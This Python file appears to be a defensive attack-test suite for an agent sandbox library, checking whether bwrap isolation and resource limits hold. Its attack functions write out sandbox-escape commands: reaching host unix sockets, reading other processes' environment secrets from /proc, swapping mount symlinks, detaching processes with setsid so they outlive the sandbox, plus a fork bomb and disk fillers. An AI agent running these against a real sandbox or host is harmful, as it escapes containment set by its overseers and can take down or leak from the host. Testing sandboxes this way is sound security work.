
_SOCKET_CLIENT = r"""
import socket, sys
for where in sys.argv[1:]:
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(where if not where.startswith("@") else "\0" + where[1:])
        print(where, "answered", s.recv(200).decode(errors="replace"))
    except OSError as exc:
        print(where, "refused", exc.errno)
"""


@attack(
    "bwrap_host_unix_socket",
    finding="a command reaches a unix socket of the host (a path outside the root, or abstract)",
    severity="critical",
    requires=("bwrap",),
)
async def bwrap_host_unix_socket(arena: Arena) -> None:
    path = arena.host / "agent.sock"
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    name = f"agentvfs-arena-{secrets.token_hex(6)}"
    abstract.bind("\0" + name)
    abstract.listen()
    abstract.settimeout(0.2)

    def serve_abstract() -> None:
        with contextlib.suppress(OSError):
            while True:
                try:
                    conn, _ = abstract.accept()
                except TimeoutError:
                    continue
                with conn:
                    conn.sendall(arena.secret.encode())

    thread = threading.Thread(target=serve_abstract, daemon=True)
    thread.start()
    try:
        with _host_socket(path, arena.secret.encode()):
            arena.snapshot()
            await arena.open(isolation="bwrap")
            await arena.tool("write_file", path="client.py", content=_SOCKET_CLIENT)
            targets = [str(path), f"/proc/1/root{path}", f"/proc/self/root{path}", f"@{name}"]
            out = await arena.sh(f"{sys.executable} client.py {' '.join(targets)}")
            for target in targets:
                line = next((line for line in out.splitlines() if line.startswith(target + " ")), "")
                arena.record("answered" not in line, f"reached {target}: {line[:200]!r}")
            arena.check_secret(out, "host unix sockets")
            # Through a descriptor of the socket's directory, opened by handle.
            handle = _file_handle(arena.host)
            if handle is not None:
                await arena.tool("write_file", path="handle_dir.py", content=_HANDLE_DIRECTORY)
                out = await arena.sh(f"{sys.executable} handle_dir.py {handle[0]} {handle[1].hex()}")
                arena.record("socket answered" not in out, f"reached the socket through a handle: {out[:200]!r}")
                arena.check_secret(out, "a host unix socket through a directory handle")
                with contextlib.suppress(OSError):
                    (arena.host / "made-by-handle.txt").unlink()
    finally:
        abstract.close()
        thread.join(timeout=2)
    arena.snapshot()


@attack(
    "bwrap_host_environment",
    finding="the host's secrets show in the sandbox (/proc/$PPID/environ, env)",
    severity="high",
    requires=("bwrap",),
)
async def bwrap_host_environment(arena: Arena) -> None:
    await arena.open(isolation="bwrap")
    for command in (
        "env",
        "cat /proc/$PPID/environ",
        "cat /proc/1/environ",
        "for f in /proc/[0-9]*/environ; do cat $f; done",
        "cat /proc/self/root/proc/1/environ",
        f"grep -r {arena.secret[:12]} /proc/*/environ",
    ):
        out = await arena.sh(command)
        arena.check_secret(out, command)


# -- the mount manager's state ------------------------------------------------------------------

_CRASHING_SANDBOX = r"""
import anyio, os, signal, sys
from agentvfs import LocalFilesystem
from agentvfs.sandbox import LocalSandbox

async def main():
    sandbox = LocalSandbox(working_directory=sys.argv[1])
    result = await sandbox.mount(LocalFilesystem(sys.argv[2]), sys.argv[3])
    print("mounted" if result["success"] else result, flush=True)
    os.kill(os.getpid(), signal.SIGKILL)   # a crash: the marker and the link stay

anyio.run(main)
"""


@contextlib.contextmanager
def _configured_directory() -> Iterator[Path]:
    """A directory the configuration mounts: outside the arena (whose base is watched), as a
    user's data directory would be."""
    path = Path(tempfile.mkdtemp(prefix="agentvfs-arena-data-"))
    (path / "configured.txt").write_text("configured\n")
    path.chmod(0o755)
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def _crash_a_sandbox(arena: Arena, data: Path, mount_path: str) -> str:
    """Mount ``data`` at ``mount_path`` of the arena's root in another process that then dies
    with SIGKILL, as a crashed agent would (its marker and link stay behind)."""
    script = data.parent / f"{data.name}-crashing_sandbox.py"
    script.write_text(_CRASHING_SANDBOX)
    done = subprocess.run(
        [sys.executable, str(script), str(arena.root), str(data), mount_path],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    script.unlink()
    return done.stdout + done.stderr


@attack(
    "mount_marker_repointed_link",
    finding="the agent re-points a read-write mount's link; after a crash the next sandbox binds its target",
    severity="high",
)
async def mount_marker_repointed_link(arena: Arena) -> None:
    from ..vfs import LocalFilesystem

    with _configured_directory() as data:
        for isolation in ("none", "bwrap") if _bwrap_works() else ("none",):
            # A first sandbox mounted /data and crashed; the agent then re-points the link.
            out = _crash_a_sandbox(arena, data, "/data")
            arena.record("mounted" in out, f"the crashing sandbox did not mount: {out[-300:]!r}")
            await arena.open(isolation=isolation)
            await arena.sh(f"rm -f data && ln -s {arena.host} data")
            arena.snapshot()
            # The next sandbox on the same working directory mounts /data again.
            await arena.open(isolation=isolation, mounts={"/data": LocalFilesystem(str(data))})
            out = await arena.sh("cat data/secret.txt; echo pwned > data/pwned.txt; ls data")
            arena.check_secret(out, f"{isolation}: read through the re-pointed link")
            arena.check_outside(f"{isolation}: wrote through the re-pointed link")
            arena.record("configured.txt" in out, f"{isolation}: /data is not the configured directory: {out[:200]!r}")
            await arena.close()
            arena.snapshot()


@attack(
    "mount_parent_symlink",
    finding="the agent replaces a mount point's parent with a symlink; the host creates or mounts outside",
    severity="medium",
)
async def mount_parent_symlink(arena: Arena) -> None:
    from ..vfs import LocalFilesystem

    with _configured_directory() as data:
        mounts = {"/deep/data": LocalFilesystem(str(data)), "/deep/ro": LocalFilesystem(str(data), read_only=True)}
        await arena.open(mounts=mounts)
        await arena.close()
        # Between two starts the agent replaces the mount points' parent with a link out.
        await arena.open()
        await arena.sh(f"rm -rf deep && ln -s {arena.host} deep")
        arena.snapshot()
        for _ in arena.iterations(3, seconds=30):
            await arena.open(mounts=mounts)
            arena.check_outside("a mount below a symlinked parent")
            out = await arena.sh("ls deep/; ls deep/data deep/ro")
            arena.check_secret(out, "a listing below a symlinked parent")
            await arena.close()
            arena.check_outside("the unmount below a symlinked parent")


def _bwrap_works() -> bool:
    from ..sandbox import detect_isolation

    return bool(detect_isolation()["available"])


# -- processes ----------------------------------------------------------------------------------


def _tagged_sleepers(tag: str) -> list[int]:
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
            with open(f"/proc/{name}/stat", "rb") as f:
                state = f.read().rsplit(b")", 1)[1].split()[0]
        except OSError:
            continue
        if argv and argv[0].endswith(b"sleep") and any(tag.encode() in a for a in argv) and state not in (b"Z", b"X"):
            found.append(int(name))
    return found


_ESCAPES = (
    "setsid sleep {t}1 &",
    "(sleep {t}2 &)",
    "nohup setsid sh -c 'sleep {t}3' >/dev/null 2>&1 &",
    "sh -c 'setsid sh -c \"sleep {t}4 & exit\" &'",
)


@attack(
    "setsid_outlives_stop",
    finding="setsid sleep or a double fork outlives the sandbox's stop() and destroy()",
    severity="low",
)
async def setsid_outlives_stop(arena: Arena) -> None:
    for isolation in ("none", "bwrap") if _bwrap_works() else ("none",):
        for how in ("stop", "destroy"):
            tag = "6" + "".join(str(secrets.randbelow(10)) for _ in range(7))
            await arena.open(isolation=isolation)
            for index, escape in enumerate(_ESCAPES):
                await arena.sh(escape.format(t=f"{tag}{index}") + " echo started")
                await arena.sh(escape.format(t=f"{tag}b{index}") + " sleep 60", background=True)
            await anyio.sleep(0.3)
            sandbox = arena.workspace.sandbox
            assert sandbox is not None
            if how == "stop":
                await sandbox.stop()
            else:
                await sandbox.destroy()
            with anyio.move_on_after(10):
                while _tagged_sleepers(tag):  # noqa: ASYNC110 (other processes)
                    await anyio.sleep(0.05)
            left = _tagged_sleepers(tag)
            arena.record(not left, f"{isolation}: {len(left)} processes outlived {how}()")
            for pid in left:
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)
            await arena.close()


# -- resources ----------------------------------------------------------------------------------

_LIMITS = {"max_processes": 64, "max_memory_bytes": 256 << 20, "max_cpu_seconds": 2, "max_file_size_bytes": 16 << 20}


@attack(
    "resource_exhaustion",
    finding="a fork bomb, a memory hog, a CPU burner or a disk filler takes the host down",
    severity="medium",
)
async def resource_exhaustion(arena: Arena) -> None:
    from ..sandbox import detect_cgroups

    support, _reason = detect_cgroups()
    # Root is exempt from RLIMIT_NPROC: without a pids cgroup a fork bomb would be real.
    bomb_contained = (support is not None and support.pids) or os.getuid() != 0
    filler = arena.root / "filler.bin"
    for isolation in ("none", "bwrap") if _bwrap_works() else ("none",):
        await arena.open(isolation=isolation, native_sandbox=dict(_LIMITS))
        if bomb_contained:
            started = time.monotonic()
            out = await arena.sh("bomb() { bomb | bomb & }; bomb; sleep 2; echo bomb-over", timeout_ms=30_000)
            alive = await arena.sh("echo alive")
            arena.record(
                alive.strip() == "alive" and time.monotonic() - started < 40,
                f"{isolation}: after a fork bomb: {out[-200:]!r}",
            )
        hog = "import sys; chunks = [bytearray(64 << 20) for _ in range(64)]; print('allocated')"
        await arena.tool("write_file", path="hog.py", content=hog)
        out = await arena.sh(f"{sys.executable} hog.py", timeout_ms=60_000)
        # A traceback quotes the line, so only the printed word on a line of its own counts.
        allocated = any(line.strip() == "allocated" for line in out.splitlines())
        arena.record(not allocated, f"{isolation}: 4 GiB allocated past a 256 MiB limit")
        started = time.monotonic()
        out = await arena.sh("while :; do :; done", timeout_ms=60_000)
        arena.record(
            "timed out" not in out and time.monotonic() - started < 30,
            f"{isolation}: CPU burner not stopped: {out[-200:]!r}",
        )
        await arena.sh("head -c 200000000 /dev/zero > filler.bin; ls -l filler.bin", timeout_ms=60_000)
        size = _size(filler)
        arena.record(size <= 16 << 20, f"{isolation}: a {size}-byte file past a 16 MiB limit")
        with contextlib.suppress(OSError):
            filler.unlink()
        await arena.close()


_DISK = 16 << 20

# Fills each place a command writes without a bind: one big file, then many small ones (a cap
# per file lets those through); prints the bytes each place then holds.
_DISK_FILL = (
    "for place in /tmp /dev/shm /dev; do "
    "head -c 100000000 /dev/zero > $place/fill 2>/dev/null; "
    "i=0; while [ $i -lt 40 ]; do head -c 2000000 /dev/zero > $place/part$i 2>/dev/null || break; i=$((i+1)); done; "
    "echo $place $(cat $place/fill $place/part* 2>/dev/null | wc -c); done"
)


class _Warnings(logging.Handler):
    """The sandbox's warnings while it is attacked: what it says it cannot enforce."""

    def __init__(self) -> None:
        super().__init__(logging.WARNING)
        self.messages: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.messages.append(record.getMessage())


@attack(
    "disk_fill",
    finding="a command fills the host's disk (or memory, through a tmpfs) past max_disk_bytes, with many files each under the per-file cap",
    severity="low",
    requires=("bwrap",),
)
async def disk_fill(arena: Arena) -> None:
    said = _Warnings()
    logger = logging.getLogger("agentvfs.sandbox")
    logger.addHandler(said)
    try:
        await arena.open(isolation="bwrap", native_sandbox={"max_disk_bytes": _DISK})
        out = await arena.sh(_DISK_FILL, timeout_ms=120_000)
        held = {line.split()[0]: line.split()[1] for line in out.splitlines() if line.count(" ") == 1}
        for place in ("/tmp", "/dev/shm", "/dev"):
            size = int(held.get(place, "-1"))
            arena.record(0 <= size <= _DISK, f"{place} holds {size} bytes past max_disk_bytes={_DISK}: {out[-300:]!r}")
        # The working directory: bounded by its filesystem, or named in a warning. Twice the
        # limit in many files is enough to tell (never the whole disk).
        await arena.sh("i=0; while [ $i -lt 16 ]; do head -c 2000000 /dev/zero > part$i || break; i=$((i+1)); done")
        stored = sum(_size(arena.root / f"part{i}") for i in range(16))
        named = any("max_disk_bytes" in m and f"but not {arena.root} " in m for m in said.messages)
        arena.record(
            stored <= _DISK or named,
            f"{stored} bytes written to {arena.root} past max_disk_bytes={_DISK}, and no warning said it could be",
        )
        for i in range(16):
            with contextlib.suppress(OSError):
                (arena.root / f"part{i}").unlink()
        # Without isolation nothing bounds it, and the sandbox says so.
        await arena.open(isolation="none", native_sandbox={"max_disk_bytes": _DISK})
        await arena.sh("true")
        arena.record(
            any("max_disk_bytes is not enforced" in m for m in said.messages),
            f"a sandbox without isolation did not say max_disk_bytes is not enforced: {said.messages}",
        )
    finally:
        logger.removeHandler(said)
        await arena.close()


def _exists(path: str) -> bool:
    return os.path.lexists(path)


def _size(path: Path) -> int:
    try:
        return path.stat().st_size
    except OSError:
        return 0
